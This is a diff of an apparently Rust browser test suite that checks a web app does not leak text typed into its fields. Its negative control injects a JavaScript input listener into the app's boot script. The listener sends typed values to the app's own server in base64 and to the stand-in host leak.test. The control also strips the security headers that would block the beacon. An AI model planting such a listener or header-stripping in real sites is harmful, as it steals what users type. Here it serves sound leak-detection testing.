@@ -17,8 +17,7 @@ const FIELDS: &str = "textarea, [contenteditable], input:not([type=radio], [type
 in_every_engine! {
     nothing_said_is_heard_anywhere
     nothing_said_in_spanish_is_heard_anywhere
-    words_told_to_our_own_server_are_heard
-    words_told_to_somebody_else_are_heard
+    words_told_to_our_own_server_or_to_somebody_else_are_heard
 }
 
 async fn nothing_said_is_heard_anywhere(browser: Browser) -> Result<()> {
@@ -51,45 +50,29 @@ async fn in_a_page(browser: Browser, page: &'static str, other: &str) -> Result<
     Ok(())
 }
 
-/// The negative control: a build that sends what is typed to our own server, in base64.
-async fn words_told_to_our_own_server_are_heard(browser: Browser) -> Result<()> {
-    leaks(
-        browser,
-        "addEventListener('input', (e) => fetch('/?' + btoa('x' + unescape(encodeURIComponent(e.target.value)))));",
-        |site| site,
-        &["base64", "asked"],
-    )
-    .await
-}
-
-/// The negative control: a build that sends what is typed to another server, without the headers
-/// that would stop it.
-async fn words_told_to_somebody_else_are_heard(browser: Browser) -> Result<()> {
-    leaks(
-        browser,
-        "addEventListener('input', (e) => { new Image().src = 'http://leak.test/' + encodeURIComponent(e.target.value); });",
-        |site| site.without_header("Content-Security-Policy").without_header("Connection-Allowlist")
-            .without_header("Cross-Origin-Embedder-Policy"),
-        &["percent", "leak.test"],
-    )
-    .await
-}
-
-async fn leaks(
+/// The negative control: a build that sends what is typed to our own server, in base64, and to
+/// another server, without the headers that would stop it.
+async fn words_told_to_our_own_server_or_to_somebody_else_are_heard(
     browser: Browser,
-    leak: &str,
-    change: impl FnOnce(Site) -> Site,
-    wanted: &[&str],
 ) -> Result<()> {
     if !apart(Network::Ears)? {
         return Ok(());
     }
+    let leak = "addEventListener('input', ({ target: { value } }) => {
+        fetch('/?' + btoa('x' + unescape(encodeURIComponent(value))));
+        new Image().src = 'http://leak.test/' + encodeURIComponent(value);
+    });";
+    let wanted = ["base64", "asked", "percent", "leak.test"];
     let ears = Ears::open()?;
     let leaky = |site: Site| {
         let path = site.path_of("/boot.*.js");
         let script = site.text_of(&path) + leak;
         // Without the service worker, which would answer some of the requests itself.
-        change(site.renamed(&path, script.into_bytes()).without("/sw.js"))
+        site.renamed(&path, script.into_bytes())
+            .without("/sw.js")
+            .without_header("Content-Security-Policy")
+            .without_header("Connection-Allowlist")
+            .without_header("Cross-Origin-Embedder-Policy")
     };
     let person = Person::arriving(browser, &Setting::default(), leaky).await?;
     person.until_ready().await?;
